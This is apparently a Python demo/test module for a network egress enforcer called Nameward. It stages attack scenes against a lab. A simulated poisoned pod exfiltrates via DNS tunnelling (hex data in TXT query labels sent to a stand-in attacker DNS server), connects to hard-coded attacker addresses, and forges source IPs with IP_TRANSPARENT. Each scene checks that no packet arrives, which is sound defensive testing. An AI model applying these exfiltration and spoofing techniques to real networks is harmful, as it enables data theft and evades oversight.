"""Scenes of the attacker: what a poisoned pod tries to get data out.

Owns plays and their words. The proof is never the pod's word alone: the world's own packet
counters say that nothing came.
"""

from __future__ import annotations

import secrets
import socket

from enforcer.demo import places
from enforcer.demo.failure import LabFailureError
from enforcer.demo.scenes import Facts, Scene, Stage
from enforcer.demo.stub import Stub

_IP_TRANSPARENT = 19
_TUNNEL_QUERIES = 50


def _nothing_came(stage: Stage, facts: Facts) -> None:
    packets = stage.lab.world.counted("attacker")
    facts.check(packets == 0, f"{packets} packets reached the attacker")


def uncontained(stage: Stage, facts: Facts) -> None:
    """Without Nameward all of it works: what is refused later was possible."""
    direct = stage.crm.connect(places.ATTACKER4)
    facts.check(direct.ok, f"raw address {direct.outcome}")
    Stub(stage.crm.space, places.ATTACKER_DNS4).ask(f"secret.{places.TUNNEL}", "TXT")
    heard = [arrival.text for arrival in stage.lab.world.attacker_heard() if arrival.kind == "dns"]
    facts.check(heard == [f"secret.{places.TUNNEL}."], f"attacker's DNS server heard {', '.join(heard)}")
    stage.lab.world.forget()


def starts(stage: Stage, facts: Facts) -> None:
    """Nameward starts, and says so only when it enforces."""
    took_s = stage.lab.ward.start()
    status = stage.lab.ward.status()
    facts.check(status["enforcing"] is True, f"enforcing after {took_s:.1f} s")
    facts.check(status["pods"] == 4, f"{status['pods']} pods, {status['policies']} policies")
    facts.check(not status["rejectedPolicies"], f"{status['rejectedPolicies'] or 'no'} policies rejected")


def raw_address(stage: Stage, facts: Facts) -> None:
    """A hard-coded address is refused at once and recorded with the best reason."""
    for address in (places.ATTACKER4, places.ATTACKER6):
        tcp, udp = stage.crm.connect(address), stage.crm.echo(address, wait_s=0.5)
        facts.check(
            tcp.is_refused,
            f"tcp {address} {tcp.outcome} in {tcp.took_s * 1000:.0f} ms",
        )
        facts.check(not udp.ok, f"udp {udp.outcome}")
    _nothing_came(stage, facts)
    row = stage.lab.ward.await_blocked(stage.crm.name, kind="packet", address=places.ATTACKER4)
    best = row is not None and "never resolved" in row["reason"]
    facts.check(best, f"recorded: {row['reason']}" if row else "no record")


def own_dns_server(stage: Stage, facts: Facts) -> None:
    """Whatever server a pod asks, Nameward answers; encrypted DNS to strangers does not pass."""
    for server in (places.ATTACKER_DNS4, places.ATTACKER_DNS6):
        stub = Stub(stage.crm.space, server)
        over_udp, over_tcp = stub.ask(places.DROP), stub.ask(places.DROP, tcp=True)
        facts.check(
            over_udp.rcode == over_tcp.rcode == "NXDOMAIN", f"{server} {over_udp.rcode}/{over_tcp.rcode}"
        )
        good = stub.ask(places.CRM)
        facts.check(good.addresses == (places.SITE_OF[places.CRM][0],), f"{places.CRM} by it {good.rcode}")
    tls = stage.crm.connect(places.ATTACKER_DNS4, 853)
    facts.check(not tls.ok, f"port 853 {tls.outcome}")
    _nothing_came(stage, facts)


def tunnel(stage: Stage, facts: Facts) -> None:
    """Data in labels goes nowhere, whichever server is asked."""
    before = stage.lab.world.counted("upstream")
    evil = Stub(stage.crm.space, places.ATTACKER_DNS4)
    rcodes: set[str] = set()
    for index in range(_TUNNEL_QUERIES):
        stub = evil if index % 2 else stage.crm.stub
        rcodes.add(stub.ask(f"{secrets.token_hex(20)}.{places.TUNNEL}", "TXT").rcode)
    facts.check(rcodes == {"NXDOMAIN"}, f"{_TUNNEL_QUERIES} questions: {', '.join(sorted(rcodes))}")
    asked = stage.lab.world.counted("upstream") - before
    facts.check(asked == 0, f"{asked} packets to the name server")
    _nothing_came(stage, facts)


def neighbour(stage: Stage, facts: Facts) -> None:
    """What one pod resolved is closed to the other, and the other's names are unknown to it."""
    answers = stage.crm.stub.pair(places.CRM)
    for address in answers[0].addresses + answers[1].addresses:
        first, second = stage.crm.connect(address), stage.ledger.connect(address)
        facts.check(first.ok and not second.ok, f"{address}: A {first.outcome}, B {second.outcome}")
    rcode = stage.ledger.stub.ask(places.CRM).rcode
    facts.check(rcode == "NXDOMAIN", f"B asks for it: {rcode}")
    own = stage.ledger.stub.ask(places.LEDGER)
    attempt = stage.ledger.connect(own.addresses[0])
    facts.check(attempt.ok, f"B's own name {attempt.outcome}")


def wrong_port(stage: Stage, facts: Facts) -> None:
    """A grant opens the permitted port only, and the record says which."""
    address = stage.crm.stub.ask(places.CRM).addresses[0]
    right, wrong = stage.crm.connect(address, 443), stage.crm.connect(address, 80)
    facts.check(right.ok, f"443 {right.outcome}")
    facts.check(wrong.is_refused, f"80 {wrong.outcome}")
    row = stage.lab.ward.await_blocked(stage.crm.name, kind="packet", address=address, port=80)
    facts.check(
        row is not None and "443" in row["reason"], f"recorded: {row['reason']}" if row else "no record"
    )


def forged(stage: Stage, facts: Facts) -> None:
    """A pod cannot borrow another's address, even for one datagram."""
    answer = stage.crm.stub.ask(places.CRM)
    attempt = stage.crm.echo(answer.addresses[0])
    facts.check(attempt.ok, f"A itself {attempt.outcome}")
    before = stage.lab.world.told("forged")
    with stage.ledger.space.socket(socket.AF_INET, socket.SOCK_DGRAM) as opened:
        opened.setsockopt(socket.IPPROTO_IP, _IP_TRANSPARENT, 1)
        opened.bind((stage.crm.addresses[0], 0))
        for _ in range(20):
            opened.sendto(b"forged", (answer.addresses[0], 443))
    after = stage.crm.echo(answer.addresses[0])
    came = stage.lab.world.told("forged") - before
    facts.check(after.ok and came == 0, f"{came} of 20 forged datagrams arrived")


def undeclared(stage: Stage, facts: Facts) -> None:
    """A pod that nobody declared gets silence, and no answer."""
    if not stage.crm.stub.ask(places.CRM).addresses:
        raise LabFailureError("the approved name does not resolve")
    answer = stage.stranger.stub.ask_udp(places.CRM, ("A",), edns=True, tries=3)[0]
    facts.check(answer.rcode in {"SERVFAIL", "TIMEOUT"}, f"lookup {answer.rcode} {answer.reason}".strip())
    for address in (places.SITE_OF[places.CRM][0], places.ATTACKER4):
        attempt = stage.stranger.connect(address, wait_s=0.3)
        facts.check(attempt.error == "no answer", f"{address} {attempt.outcome}")
    _nothing_came(stage, facts)


BEFORE = (
    Scene(
        "without Nameward",
        "control",
        "the attacker's address and his DNS server, before Nameward runs",
        "both reached: the attack is real",
        uncontained,
    ),
    Scene(
        "start",
        "3: default deny",
        "nameward node --config F; nameward status --wait",
        "enforcing, 4 declared pods known, no policy rejected",
        starts,
    ),
)

SCENES = (
    Scene(
        "attacker's raw address",
        "3: default deny",
        f"tcp/443 and udp/443 to {places.ATTACKER4} and {places.ATTACKER6}, never resolved",
        "refused at once, no packet arrives, on record with a reason",
        raw_address,
    ),
    Scene(
        "attacker's DNS server",
        "1: answer ⇔ permit",
        f"questions to {places.ATTACKER_DNS4} and its IPv6 twin on port 53, UDP and TCP; port 853",
        "Nameward answers in its place; no packet arrives",
        own_dns_server,
    ),
    Scene(
        "DNS tunnel",
        "1: answer ⇔ permit",
        f"{_TUNNEL_QUERIES} TXT questions with data in the name, under {places.TUNNEL}",
        "NXDOMAIN, none leaves the node",
        tunnel,
    ),
    Scene(
        "neighbour's grant",
        "2: least privilege is per pod",
        f"server B connects to what server A resolved ({places.CRM})",
        "A reaches it, B does not; B's own name works",
        neighbour,
    ),
    Scene(
        "wrong port",
        "1: answer ⇔ permit",
        f"port 80 of {places.CRM}, where 443 is permitted",
        "443 works, 80 refused at once, the record says which port",
        wrong_port,
    ),
    Scene(
        "forged source",
        "2: least privilege is per pod",
        "server B sends datagrams with server A's address to what A may reach",
        "none arrives",
        forged,
    ),
    Scene(
        "undeclared pod",
        "3: default deny",
        "a pod that is in no manifest asks and connects",
        "no answer it could use; packets dropped, not rejected",
        undeclared,
    ),
)
